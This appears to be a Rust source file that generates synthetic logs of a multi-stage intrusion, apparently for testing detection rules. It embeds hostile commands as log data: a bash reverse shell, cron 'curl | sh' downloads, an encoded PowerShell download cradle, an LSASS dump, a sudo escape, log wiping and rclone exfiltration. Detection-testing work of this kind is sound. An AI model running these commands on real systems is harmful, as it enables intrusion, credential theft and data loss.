//! The one intrusion of the week, told in the logs it would have left.
//!
//! On Tuesday night the web server falls; on Wednesday morning a phished desk leads to the directory, from there to
//! the cloud account, the tenant and the cluster; on Thursday before dawn the data leaves and a log is cleared.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::aws::Account;
use super::clock::{At, at};
use super::entra::{DENIED, GOOD, Outcome, Tenant};
use super::kubernetes::{Cluster, Request};
use super::linux::{ROOT_SERVICE, WWW_DATA, Web};
use super::log::Mark;
use super::network::{Conn, Sensors};
use super::windows::{Host, Logon, Process, Start, audit, log_cleared};
use super::windows_life::{Desk, account_created, group_member_added, replication, service_ticket};
use super::world::*;

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

fn mark(
    stage: &'static str,
    technique: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
) -> Mark {
    Mark { stage, technique, what, rules }
}

fn encoded(script: &str) -> String {
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(wide)
}

/// Tuesday, 01:55 to 03:10: from a scan of ports to a job of cron.
pub fn web_server(web: &mut Web, net: &mut Sensors) {
    let stage = "1-web-server";
    let scan = mark(
        stage,
        "T1595.001",
        "ports of the web server tried one after another",
        &["firewall/traffic/port_scan"],
    );
    for (i, port) in (8000..8036).enumerate() {
        net.refused(
            at(1, 1, 55, 0).plus_s(i as i64 * 2),
            "outside",
            INTRUDER_WEB,
            (WEB_PUBLIC, port),
            Some(&scan),
        );
    }
    let guess = mark(
        stage,
        "T1595.003",
        "folders of the site guessed",
        &["webserver/access/content_guessing", "webserver/access/attack_tool_user_agent"],
    );
    for i in 0..110 {
        let line = format!(
            "GET /{}/",
            ["admin", "backup", "old", "dev", "api", "upload", "test", "files", "private", "cgi-bin"][i % 10]
                .to_owned()
                + &(i / 10).to_string()
        );
        web.request(
            at(1, 2, 1, 0).plus_ms(i as i64 * 900),
            INTRUDER_WEB,
            &line,
            (404, 162),
            "gobuster/3.6",
            Some(&guess),
        );
    }
    let agent = "curl/8.5.0";
    let climb = mark(
        stage,
        "T1190",
        "a file of the system read through the download page",
        &["webserver/access/path_traversal_to_system_file"],
    );
    let tries = mark(stage, "T1190", "a traversal that was refused", &[]);
    web.request(
        at(1, 2, 13, 51),
        INTRUDER_WEB,
        "GET /download?file=../../etc/passwd",
        (404, 162),
        agent,
        Some(&tries),
    );
    web.request(
        at(1, 2, 14, 7),
        INTRUDER_WEB,
        "GET /download?file=../../../../etc/passwd",
        (200, 1821),
        agent,
        Some(&climb),
    );
    web.request(
        at(1, 2, 15, 22),
        INTRUDER_WEB,
        "GET /download?file=..%2f..%2f..%2f..%2fvar/www/shop/.env",
        (200, 644),
        agent,
        Some(&climb),
    );
    let upload = mark(stage, "T1505.003", "a script is uploaded as a picture", &[]);
    web.request(
        at(1, 2, 30, 12),
        INTRUDER_WEB,
        "POST /account/avatar.php",
        (302, 0),
        "python-requests/2.32.3",
        Some(&upload),
    );
    let shell = mark(
        stage,
        "T1505.003",
        "the uploaded script runs commands",
        &["webserver/access/web_shell_request"],
    );
    let runs = mark(
        stage,
        "T1059.004",
        "the web server's user runs what the script was given",
        &["linux/auditd/web_user_runs_shell"],
    );
    let commands = [
        ("id", "id"),
        ("uname%20-a", "uname -a"),
        ("cat%20/etc/crontab", "cat /etc/crontab"),
        ("sudo%20-l", "sudo -l"),
    ];
    for (i, (in_address, typed)) in commands.iter().enumerate() {
        let t = at(1, 2, 31, 55).plus_s(i as i64 * 48);
        let line = format!("GET /uploads/2026/thumb.php?cmd={in_address}");
        web.request(
            t,
            INTRUDER_WEB,
            &line,
            (200, 54 + i as i64 * 131),
            "python-requests/2.32.3",
            Some(&shell),
        );
        web.executes(t.plus_ms(30), WWW_DATA, "/usr/bin/dash", &["sh", "-c", typed], Some(&runs));
    }
    let reverse = mark(
        stage,
        "T1059.004",
        "a shell is tied to a connection to the intruder",
        &["linux/process_creation/reverse_shell", "linux/auditd/web_user_runs_shell"],
    );
    let t = at(1, 2, 44, 3);
    web.request(
        t,
        INTRUDER_WEB,
        "POST /uploads/2026/thumb.php?cmd=",
        (200, 0),
        "python-requests/2.32.3",
        Some(&shell),
    );
    let line = format!("bash -i >& /dev/tcp/{INTRUDER_WEB}/4444 0>&1");
    web.executes(t.plus_ms(25), WWW_DATA, "/usr/bin/bash", &["bash", "-c", &line], Some(&reverse));
    net.outbound(t.plus_ms(40), "dmz", WEB.address, (INTRUDER_WEB, 4444), 1810, 41_822);
    let root = mark(
        stage,
        "T1548.003",
        "a shell of root out of find, which sudo allows to www-data",
        &["linux/sudo/shell_escape_by_sudo"],
    );
    let t = at(1, 2, 52, 37);
    web.auth(
        t,
        "sudo",
        "www-data : PWD=/var/www/shop ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit",
        Some(&root),
    );
    web.auth(t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)", None);
    web.executes(
        t.plus_ms(12),
        ROOT_SERVICE,
        "/usr/bin/find",
        &["find", ".", "-exec", "/bin/sh", ";", "-quit"],
        None,
    );
    let file =
        mark(stage, "T1053.003", "a job of cron is placed by hand", &["linux/auditd/cron_file_written"]);
    web.makes_file(at(1, 2, 55, 10), ROOT_SERVICE, "/usr/bin/dash", "/etc/cron.d/php-session", Some(&file));
    let job = mark(
        stage,
        "T1053.003",
        "the job fetches and runs what the intruder serves",
        &["linux/cron/cron_runs_download"],
    );
    for n in 0..17 {
        let t = at(1 + (3 + n * 8) / 24, (3 + n * 8) % 24, 40, 1);
        let pid = 21_000 + n * 37;
        web.syslog(
            t,
            &format!("CRON[{pid}]"),
            &format!("(root) CMD (curl -fsSL http://{INTRUDER}/s | sh)"),
            Some(&job),
        );
        net.connection(
            t.plus_ms(300),
            &Conn {
                from: WEB.address,
                to: INTRUDER,
                port: 80,
                service: "http",
                sent: 212,
                received: 1_904,
                seconds: 0,
            },
            None,
        );
    }
    let wipe = mark(
        stage,
        "T1070.002",
        "the record of sign-ins is overwritten",
        &["linux/process_creation/log_files_wiped"],
    );
    web.executes(
        at(1, 3, 8, 44),
        ROOT_SERVICE,
        "/usr/bin/shred",
        &["shred", "-zu", "/var/log/wtmp"],
        Some(&wipe),
    );
}

/// What the intruder holds on Ana's desk.
struct Foothold {
    shell: Process,
}

fn child<'a>(
    image: &'a str,
    command: &'a str,
    parent: &'a Process,
    user: &Person,
    integrity: &'static str,
) -> Start<'a> {
    Start { image, command, parent, user: user.account(), logon: "0x40453", integrity }
}

/// Wednesday, 09:41 to 10:35: Ana opens an invoice; what follows on her desk.
pub fn phished_desk(ana: &mut Host, desk: &Desk, dc: &mut Host, net: &mut Sensors) {
    let foothold = invoice(ana, desk, net);
    look_around(ana, &foothold);
    stay(ana, &foothold);
    let stage = "4-credentials";
    let roast = mark(
        stage,
        "T1558.003",
        "weak tickets of services asked for one after another",
        &["windows/security/kerberoasting"],
    );
    for (i, service) in
        ["svc-sql", "svc-archive", "svc-intranet", "svc-scan", "svc-print2"].iter().enumerate()
    {
        service_ticket(
            dc,
            at(2, 10, 20, 14).plus_ms(i as i64 * 420),
            &ANA,
            service,
            "0x17",
            WS_ANA.address,
            Some(&roast),
        );
    }
    let dump = mark(
        stage,
        "T1003.001",
        "the memory of LSASS is written out by rundll32",
        &["windows/process_creation/lsass_dump_comsvcs"],
    );
    let command =
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\lsass.dmp full";
    let t = at(2, 10, 32, 41);
    let rundll = child("C:\\Windows\\System32\\rundll32.exe", command, &foothold.shell, &ANA, "High");
    let rundll = ana.start(t, &rundll, Some(&dump));
    let opened =
        mark(stage, "T1003.001", "LSASS is opened for that", &["windows/process_access/lsass_memory_read"]);
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+27a0d";
    ana.opens_lsass(t.plus_ms(60), &rundll, "0x1fffff", trace, Some(&opened));
    let written = mark(
        stage,
        "T1003.001",
        "the dump lies in the folder for temporary files",
        &["windows/file_event/lsass_dump_written"],
    );
    ana.creates(t.plus_ms(400), &rundll, "C:\\Windows\\Temp\\lsass.dmp", Some(&written));
}

fn invoice(ana: &mut Host, desk: &Desk, net: &mut Sensors) -> Foothold {
    let stage = "2-phish";
    let t = at(2, 9, 41, 12);
    let outlook =
        ana.standing("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", &ANA.account());
    let saved = mark(stage, "T1566.001", "the attachment is saved by Outlook", &[]);
    let document = "C:\\Users\\ana\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3X7QF2P\\Invoice_2291.docm";
    ana.creates(t, &outlook, document, Some(&saved));
    let word_image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let word_command = format!("\"{word_image}\" /n \"{document}\" /o \"\"");
    let opens = mark(stage, "T1204.002", "Ana opens it", &[]);
    let word =
        ana.start(t.plus_s(9), &child(word_image, &word_command, &outlook, &ANA, "Medium"), Some(&opens));
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('https://{INTRUDER_NAME}/u')");
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded(&script));
    let macro_runs = mark(
        stage,
        "T1059.001",
        "the macro starts PowerShell with an encoded command",
        &[
            "windows/process_creation/office_starts_script_host",
            "windows/process_creation/powershell_encoded_command",
        ],
    );
    let t = at(2, 9, 42, 10);
    let shell = ana.start(t, &child(POWERSHELL, &command, &word, &ANA, "Medium"), Some(&macro_runs));
    let block = mark(stage, "T1059.001", "the script that it decodes to", &[]);
    ana.runs_script(t.plus_ms(700), &script, "", Some(&block));
    let calls = mark("2-phish", "T1071.001", "PowerShell calls the intruder", &[]);
    ana.resolves(t.plus_ms(800), &shell, INTRUDER_NAME, INTRUDER, Some(&calls));
    ana.connects(t.plus_ms(850), &shell, (INTRUDER, INTRUDER_NAME, 443), Some(&calls));
    net.query(t.plus_ms(790), WS_ANA.address, INTRUDER_NAME, "A", INTRUDER, Some(&calls));
    let seen =
        mark(stage, "T1071.001", "the sensor knows the beacon", &["suricata/eve/trojan_alert_let_through"]);
    for hours in [0, 1, 2, 3] {
        let t = t.plus_s(2 + hours * 3600);
        net.alert(
            t,
            WS_ANA.address,
            (INTRUDER, 443),
            (
                9_000_001,
                "LOCAL Beacon over TLS to quillstone",
                "Malware Command and Control Activity Detected",
                1,
            ),
            Some(&seen),
        );
        net.connection(
            t,
            &Conn {
                from: WS_ANA.address,
                to: INTRUDER,
                port: 443,
                service: "ssl",
                sent: 18_211,
                received: 44_100,
                seconds: 1800,
            },
            None,
        );
        net.outbound(t, "inside", WS_ANA.address, (INTRUDER, 443), 1800, 62_311);
    }
    let _ = desk;
    Foothold { shell }
}

fn look_around(ana: &mut Host, foothold: &Foothold) {
    let found = mark(
        "3-discovery",
        "T1087.002",
        "the intruder looks around",
        &["windows/process_creation/discovery_burst"],
    );
    let questions = [
        (0, "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
        (48, "nltest.exe", "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts"),
        (95, "net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain"),
        (160, "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all"),
        (231, "systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\""),
    ];
    for (after, name, command) in questions {
        let image = format!("C:\\Windows\\System32\\{name}");
        ana.start(
            at(2, 9, 50, 3).plus_s(after),
            &child(&image, command, &foothold.shell, &ANA, "Medium"),
            Some(&found),
        );
    }
}

fn stay(ana: &mut Host, foothold: &Foothold) {
    let stage = "3-persistence";
    let payload = encoded("IEX (gc $env:APPDATA\\u.txt -Raw)");
    let command = format!(
        "schtasks.exe /create /tn \"OneDrive Sync Helper\" /sc hourly /tr \"powershell -w hidden -enc {payload}\" /f"
    );
    let t = at(2, 10, 5, 18);
    let task = mark(
        stage,
        "T1053.005",
        "a task that runs encoded PowerShell each hour",
        &["windows/process_creation/scheduled_task_runs_script"],
    );
    ana.start(
        t,
        &child("C:\\Windows\\System32\\schtasks.exe", &command, &foothold.shell, &ANA, "Medium"),
        Some(&task),
    );
    let stored =
        mark(stage, "T1053.005", "the task is stored", &["windows/security/scheduled_task_hides_code"]);
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition></TimeTrigger></Triggers>\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -enc {payload}</Arguments></Exec></Actions>\r\n</Task>"
    );
    ana.put(
        t.plus_ms(220),
        audit(4698, 1, 12804, "Other Object Access Events"),
        vec![
            ("SubjectUserSid", json!(ANA.sid())),
            ("SubjectUserName", json!(ANA.user)),
            ("SubjectDomainName", json!(NETBIOS)),
            ("SubjectLogonId", json!("0x40453")),
            ("TaskName", json!("\\OneDrive Sync Helper")),
            ("TaskContent", json!(content)),
            ("ClientProcessStartKey", json!("4503599627370912")),
            ("ClientProcessId", json!(9120)),
            ("ParentProcessId", json!(foothold.shell.pid)),
            ("RpcCallClientLocality", json!(0)),
            ("FQDN", json!(WS_ANA.fqdn)),
        ],
        Some(&stored),
    );
    let run = mark(
        stage,
        "T1547.001",
        "a value that starts a script at logon",
        &["windows/registry_set/run_key_in_user_reach"],
    );
    let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", ANA.sid());
    ana.sets_value(
        at(2, 10, 8, 2),
        &foothold.shell,
        &key,
        "wscript.exe C:\\Users\\ana\\AppData\\Local\\Temp\\u.vbs",
        Some(&run),
    );
}

/// Wednesday, 11:02 to 12:10: to Bo's desk by a service, to the directory by replication.
pub fn lateral_movement(bo: &mut Host, desk: &Desk, dc: &mut Host, net: &mut Sensors) {
    let stage = "5-lateral-movement";
    let t = at(2, 11, 2, 16);
    let arrives = mark(stage, "T1021.002", "a logon over the network with a stolen hash", &[]);
    let logon = Logon {
        process: "NtLmSsp ",
        package: "NTLM",
        workstation: WS_ANA.name,
        ..Logon::over_the_network(&ADM_PIET, WS_ANA.address)
    };
    bo.logon(t, &logon, Some(4200), Some(&arrives));
    let share = mark(
        stage,
        "T1570",
        "a program is written through the administrative share",
        &["windows/security/program_written_to_admin_share"],
    );
    bo.put(
        t.plus_ms(300),
        audit(5145, 0, 12811, "Detailed File Share"),
        vec![
            ("SubjectUserSid", json!(ADM_PIET.sid())),
            ("SubjectUserName", json!(ADM_PIET.user)),
            ("SubjectDomainName", json!(NETBIOS)),
            ("SubjectLogonId", json!("0x61f0a2")),
            ("ObjectType", json!("File")),
            ("IpAddress", json!(WS_ANA.address)),
            ("IpPort", json!("50112")),
            ("ShareName", json!("\\\\*\\ADMIN$")),
            ("ShareLocalPath", json!("\\??\\C:\\Windows")),
            ("RelativeTargetName", json!("kqzxvwpt.exe")),
            ("AccessMask", json!("0x12019f")),
            ("AccessList", json!("%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t")),
            ("AccessReason", json!("-")),
        ],
        Some(&share),
    );
    let wire =
        mark(stage, "T1570", "the same program on the wire", &["zeek/smb_files/program_to_admin_share"]);
    net.share_file(
        t.plus_ms(280),
        WS_ANA.address,
        WS_BO.address,
        "SMB::FILE_OPEN",
        ("\\\\TB-WS-022\\ADMIN$", "kqzxvwpt.exe", 58_880),
        Some(&wire),
    );
    let service = mark(
        stage,
        "T1569.002",
        "a service with a random name runs it",
        &["windows/system/service_runs_interpreter"],
    );
    bo.installs_service(t.plus_ms(900), "mKQz", "%systemroot%\\kqzxvwpt.exe", "demand start", Some(&service));
    let runs = mark(stage, "T1569.002", "the service's program as SYSTEM", &[]);
    let beacon = Start {
        image: "C:\\Windows\\kqzxvwpt.exe",
        command: "C:\\Windows\\kqzxvwpt.exe",
        parent: &desk.services,
        user: "NT AUTHORITY\\SYSTEM".into(),
        logon: "0x3e7",
        integrity: "System",
    };
    let beacon = bo.start(t.plus_ms(1200), &beacon, Some(&runs));
    let pipe = mark(
        stage,
        "T1559",
        "its pipe has the default name of a framework",
        &["windows/pipe_created/known_intruder_pipe"],
    );
    bo.put(
        t.plus_ms(1500),
        super::windows::sysmon(17, 1, "Pipe Created (rule: PipeEvent)"),
        vec![
            ("RuleName", json!("-")),
            ("EventType", json!("CreatePipe")),
            ("UtcTime", json!(t.plus_ms(1500).sysmon())),
            ("ProcessGuid", json!(beacon.guid)),
            ("ProcessId", json!(beacon.pid)),
            ("PipeName", json!("\\MSSE-4417-server")),
            ("Image", json!(beacon.image)),
            ("User", json!("NT AUTHORITY\\SYSTEM")),
        ],
        Some(&pipe),
    );
    let opened = mark(
        "4-credentials",
        "T1003.001",
        "LSASS of Bo's desk is read, where the administrator was signed in",
        &["windows/process_access/lsass_memory_read"],
    );
    bo.opens_lsass(
        at(2, 11, 20, 5),
        &beacon,
        "0x1410",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8e4|UNKNOWN(000001F2A10B4C1D)",
        Some(&opened),
    );
    let keys = mark("4-credentials", "T1552.001", "the file with Bo's cloud key is read", &[]);
    let command = "cmd.exe /c type C:\\Users\\bo\\.aws\\credentials C:\\Users\\bo\\.kube\\config";
    let reads = Start {
        image: "C:\\Windows\\System32\\cmd.exe",
        command,
        parent: &beacon,
        user: "NT AUTHORITY\\SYSTEM".into(),
        logon: "0x3e7",
        integrity: "System",
    };
    bo.start(at(2, 13, 10, 41), &reads, Some(&keys));
    directory(dc);
}

fn directory(dc: &mut Host) {
    let stage = "6-directory";
    let t = at(2, 11, 48, 2);
    let logon = Logon {
        process: "NtLmSsp ",
        package: "NTLM",
        workstation: WS_BO.name,
        ..Logon::over_the_network(&ADM_PIET, WS_BO.address)
    };
    let arrives = mark(stage, "T1078.002", "the administrator's account comes from Bo's desk", &[]);
    dc.logon(t.plus_ms(-200), &logon, Some(900), Some(&arrives));
    let sync = mark(
        stage,
        "T1003.006",
        "the secrets of the domain are replicated by a person's account",
        &["windows/security/dcsync"],
    );
    for i in 0..3 {
        replication(dc, t.plus_ms(i * 40), ADM_PIET.user, &ADM_PIET.sid(), Some(&sync));
    }
    let made = mark(
        stage,
        "T1136.002",
        "an account that sounds like a service",
        &["windows/security/new_account_made_administrator"],
    );
    account_created(dc, at(2, 12, 5, 10), &ADM_PIET, "svc_print", 1377, Some(&made));
    let raised = mark(
        stage,
        "T1098.007",
        "and is made an administrator of the domain",
        &[
            "windows/security/new_account_made_administrator",
            "windows/security/privileged_group_member_added",
        ],
    );
    group_member_added(dc, at(2, 12, 5, 51), &ADM_PIET, 1377, ("Domain Admins", 512), Some(&raised));
}

/// Wednesday, 13:30 to 15:05: Bo's key in other hands.
pub fn cloud_account(aws: &mut Account) {
    let stage = "7-cloud-account";
    let who = mark(stage, "T1078.004", "the key is tried", &[]);
    aws.stolen(at(2, 13, 30, 4), "sts.amazonaws.com", "GetCallerIdentity", Value::Null, None, &who);
    let feel = mark(
        stage,
        "T1580",
        "many calls that the key does not allow",
        &["aws/cloudtrail/denied_calls_burst"],
    );
    let denied = Some((
        "AccessDenied",
        "User: arn:aws:iam::111122223333:user/bo.lindqvist is not authorized to perform this action",
    ));
    let refused = [
        ("organizations.amazonaws.com", "ListAccounts"),
        ("kms.amazonaws.com", "ListKeys"),
        ("lambda.amazonaws.com", "ListFunctions20150331"),
        ("rds.amazonaws.com", "DescribeDBSnapshots"),
        ("secretsmanager.amazonaws.com", "ListSecrets"),
        ("ssm.amazonaws.com", "DescribeParameters"),
        ("dynamodb.amazonaws.com", "ListTables"),
        ("eks.amazonaws.com", "ListClusters"),
        ("ecr.amazonaws.com", "DescribeRepositories"),
        ("guardduty.amazonaws.com", "ListDetectors"),
    ];
    for (i, (service, name)) in refused.iter().enumerate() {
        aws.stolen(at(2, 13, 31, 0).plus_s(i as i64 * 7), service, name, Value::Null, denied, &feel);
    }
    let t = at(2, 13, 44, 30);
    let key = mark(
        stage,
        "T1098.001",
        "a key for the report user is made",
        &["aws/cloudtrail/access_key_made_for_another_user"],
    );
    aws.stolen(t, "iam.amazonaws.com", "CreateAccessKey", json!({ "userName": "svc-report" }), None, &key);
    let policy = mark(
        stage,
        "T1098.003",
        "that user becomes administrator",
        &["aws/cloudtrail/administrator_policy_attached"],
    );
    let arn = "arn:aws:iam::aws:policy/AdministratorAccess";
    aws.stolen(
        t.plus_s(40),
        "iam.amazonaws.com",
        "AttachUserPolicy",
        json!({ "userName": "svc-report", "policyArn": arn }),
        None,
        &policy,
    );
    let copy = mark(
        stage,
        "T1530",
        "designs are copied out of the bucket",
        &["aws/cloudtrail/objects_read_in_bulk"],
    );
    for i in 0..60 {
        let request = json!({ "bucketName": "tarnbeck-designs", "Host": "tarnbeck-designs.s3.eu-central-1.amazonaws.com", "key": format!("gauge-7/sheet-{i:03}.dwg") });
        aws.stolen(at(2, 14, 5, 0).plus_s(i * 4), "s3.amazonaws.com", "GetObject", request, None, &copy);
    }
    let share = mark(
        stage,
        "T1537",
        "a disk's snapshot is shared with a strange account",
        &["aws/cloudtrail/snapshot_shared_outside"],
    );
    let request = json!({ "snapshotId": "snap-0b7a1fd22c9e4c310", "createVolumePermission": { "add": { "items": [{ "userId": "999900001111" }] } }, "attributeType": "CREATE_VOLUME_PERMISSION" });
    aws.stolen(at(2, 14, 40, 12), "ec2.amazonaws.com", "ModifySnapshotAttribute", request, None, &share);
    let stop = mark(stage, "T1562.008", "the trail is told to stop", &["aws/cloudtrail/trail_stopped"]);
    let trail = format!("arn:aws:cloudtrail:{AWS_REGION}:{AWS_ACCOUNT}:trail/main");
    aws.stolen(
        at(2, 15, 4, 55),
        "cloudtrail.amazonaws.com",
        "StopLogging",
        json!({ "name": trail }),
        None,
        &stop,
    );
    // A stopped trail delivers nothing; it is started again on Thursday by the nightly Terraform run.
    aws.trail.rows.retain(|row| row.at <= at(2, 15, 4, 55) || row.at >= at(3, 6, 0, 0));
}

/// Wednesday, 21:00 to 21:40: Piet's telephone asks until he says yes.
pub fn tenant(entra: &mut Tenant) {
    let stage = "8-tenant";
    let asks = mark(
        stage,
        "T1621",
        "the second factor is asked for again and again",
        &["azure/signinlogs/mfa_fatigue"],
    );
    for i in 0..9 {
        entra.strange(at(2, 21, 0, 20).plus_s(i * 45), &ADM_PIET, &DENIED, &asks);
    }
    let yes = mark(
        stage,
        "T1621",
        "he presses yes; the sign-in is rated as a high risk",
        &["azure/signinlogs/mfa_fatigue", "azure/signinlogs/risky_signin_succeeded"],
    );
    entra.strange(at(2, 21, 8, 2), &ADM_PIET, &Outcome { risk: "high", ..GOOD }, &yes);
    let by = (&ADM_PIET, INTRUDER);
    let app = |changes: Value| json!({ "id": "7b0c8a6e-2f1d-4c9b-8f6a-0d9e5b1c3a77", "displayName": "Mail Helper", "type": "ServicePrincipal", "userPrincipalName": null, "groupType": null, "modifiedProperties": changes });
    let secret = mark(
        stage,
        "T1098.001",
        "an application gets a second secret",
        &["azure/auditlogs/application_credential_added"],
    );
    let changes = json!([{ "displayName": "KeyDescription", "oldValue": "[]", "newValue": "[\"[KeyIdentifier=5f1c,KeyType=Password,KeyUsage=Verify,DisplayName=]\"]" }]);
    entra.audit(
        at(2, 21, 16, 40),
        (
            "Update application – Certificates and secrets management ",
            "Core Directory",
            "ApplicationManagement",
        ),
        by,
        app(changes),
        Some(&secret),
    );
    let consent = mark(
        stage,
        "T1528",
        "and the administrator's consent to read all mail",
        &["azure/auditlogs/administrator_consent_given"],
    );
    let changes = json!([
        { "displayName": "ConsentContext.IsAdminConsent", "oldValue": null, "newValue": "\"True\"" },
        { "displayName": "ConsentAction.Permissions", "oldValue": null, "newValue": "\"[] => [[Id: x, Scope: Mail.Read Files.Read.All, ConsentType: AllPrincipals]]\"" },
    ]);
    entra.audit(
        at(2, 21, 18, 3),
        ("Consent to application", "Core Directory", "ApplicationManagement"),
        by,
        app(changes),
        Some(&consent),
    );
}

/// Thursday, 03:00 to 03:20: the cluster, with the configuration found on Bo's desk.
pub fn cluster(cluster: &mut Cluster) {
    let stage = "9-cluster";
    let user = "system:serviceaccount:shop:web";
    let request = |verb: &'static str,
                   uri: &'static str,
                   object: (&'static str, &'static str, &'static str, &'static str),
                   group: &'static str,
                   code: u32,
                   body: Value| Request {
        user,
        from: INTRUDER,
        agent: "kubectl/v1.29.0 (linux/amd64)",
        verb,
        uri,
        object,
        group,
        code,
        body,
    };
    let feels = mark(
        stage,
        "T1613",
        "a stolen token is tried on everything",
        &["kubernetes/audit/service_account_feels_around"],
    );
    let kinds = [
        "nodes",
        "namespaces",
        "configmaps",
        "daemonsets",
        "clusterroles",
        "persistentvolumes",
        "networkpolicies",
    ];
    for (i, kind) in kinds.into_iter().enumerate() {
        cluster.request(
            at(3, 3, 0, 5).plus_s(i as i64 * 6),
            &request("list", "/api/v1/", (kind, "", "", ""), "", 403, Value::Null),
            Some(&feels),
        );
    }
    let secrets = mark(
        stage,
        "T1552.007",
        "but it may read all secrets",
        &["kubernetes/audit/secrets_listed_cluster_wide"],
    );
    cluster.request(
        at(3, 3, 4, 31),
        &request("list", "/api/v1/secrets?limit=500", ("secrets", "", "", ""), "", 200, Value::Null),
        Some(&secrets),
    );
    let pod = mark(
        stage,
        "T1611",
        "a pod with the rights of its node",
        &["kubernetes/audit/privileged_pod_created"],
    );
    let body = json!({ "kind": "Pod", "metadata": { "name": "node-debug" }, "spec": { "hostPID": true, "containers": [{ "name": "d", "image": "alpine", "command": ["nsenter", "-t", "1", "-m", "sh"], "securityContext": { "privileged": true } }], "volumes": [{ "name": "root", "hostPath": { "path": "/" } }] } });
    cluster.request(
        at(3, 3, 9, 2),
        &request("create", "/api/v1/namespaces/shop/pods", ("pods", "", "shop", "node-debug"), "", 201, body),
        Some(&pod),
    );
    let exec = mark(stage, "T1609", "a command in it", &["kubernetes/audit/exec_into_pod"]);
    cluster.request(
        at(3, 3, 10, 44),
        &request(
            "create",
            "/api/v1/namespaces/shop/pods/node-debug/exec?command=sh&stdin=true&tty=true",
            ("pods", "exec", "shop", "node-debug"),
            "",
            101,
            Value::Null,
        ),
        Some(&exec),
    );
    let bind = mark(
        stage,
        "T1098.006",
        "and the role of the cluster's administrator for its account",
        &["kubernetes/audit/cluster_admin_granted"],
    );
    let body = json!({ "kind": "ClusterRoleBinding", "metadata": { "name": "web-metrics" }, "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" }, "subjects": [{ "kind": "ServiceAccount", "name": "web", "namespace": "shop" }] });
    cluster.request(
        at(3, 3, 18, 20),
        &request(
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            ("clusterrolebindings", "", "", "web-metrics"),
            "rbac.authorization.k8s.io",
            201,
            body,
        ),
        Some(&bind),
    );
}

/// Thursday, 01:30 to 04:20: the data leaves from Bo's desk, names carry the rest, a log is cleared.
pub fn exfiltration(bo: &mut Host, desk: &Desk, net: &mut Sensors) {
    let stage = "10-exfiltration";
    let t = at(3, 1, 30, 9);
    let copy = mark(
        stage,
        "T1567.002",
        "the firmware share goes out with rclone",
        &["windows/process_creation/rclone_copies_out"],
    );
    let command = "C:\\ProgramData\\rclone.exe copy \\\\fs1\\firmware remote:f --transfers 16 --no-check-certificate --max-age 3y";
    let rclone = Start {
        image: "C:\\ProgramData\\rclone.exe",
        command,
        parent: &desk.services,
        user: ADM_PIET.account(),
        logon: "0x61f0a2",
        integrity: "High",
    };
    let rclone = bo.start(t, &rclone, Some(&copy));
    let leaves = mark(stage, "T1567.002", "the upload", &["zeek/conn/large_upload_to_internet"]);
    for part in 0..6 {
        let t = t.plus_s(20 + part * 480);
        bo.connects(
            t,
            &rclone,
            (INTRUDER, INTRUDER_NAME, 443),
            Some(&mark(stage, "T1567.002", "rclone's connection", &[])),
        );
        net.connection(
            t,
            &Conn {
                from: WS_BO.address,
                to: INTRUDER,
                port: 443,
                service: "ssl",
                sent: 118_400_000 + part * 71_003,
                received: 912_004,
                seconds: 470,
            },
            Some(&leaves),
        );
        net.outbound(t, "inside", WS_BO.address, (INTRUDER, 443), 470, 119_312_004);
    }
    let names = mark(
        stage,
        "T1048.003",
        "a file in pieces, inside of names",
        &["zeek/dns/tunnelling_shape", "dns/query/long_text_answer"],
    );
    for i in 0..48 {
        let name = format!("{}.t.quillstone.example", net.random.hex(48));
        net.query(at(3, 2, 40, 0).plus_s(i * 4), WEB.address, &name, "TXT", "ok", Some(&names));
    }
    let clears = mark(
        stage,
        "T1070.001",
        "the Security log of Bo's desk is cleared",
        &["windows/process_creation/event_log_cleared_by_command"],
    );
    let t = at(3, 4, 18, 30);
    let command = "wevtutil.exe cl Security";
    let wevtutil = Start {
        image: "C:\\Windows\\System32\\wevtutil.exe",
        command,
        parent: &desk.services,
        user: ADM_PIET.account(),
        logon: "0x61f0a2",
        integrity: "High",
    };
    bo.start(t, &wevtutil, Some(&clears));
    let cleared =
        mark(stage, "T1070.001", "the record that remains of it", &["windows/security/audit_log_cleared"]);
    bo.put(
        t.plus_ms(340),
        log_cleared(),
        vec![
            ("SubjectUserSid", json!(ADM_PIET.sid())),
            ("SubjectUserName", json!(ADM_PIET.user)),
            ("SubjectDomainName", json!(NETBIOS)),
            ("SubjectLogonId", json!("0x61f0a2")),
            ("ClientProcessId", json!(9120)),
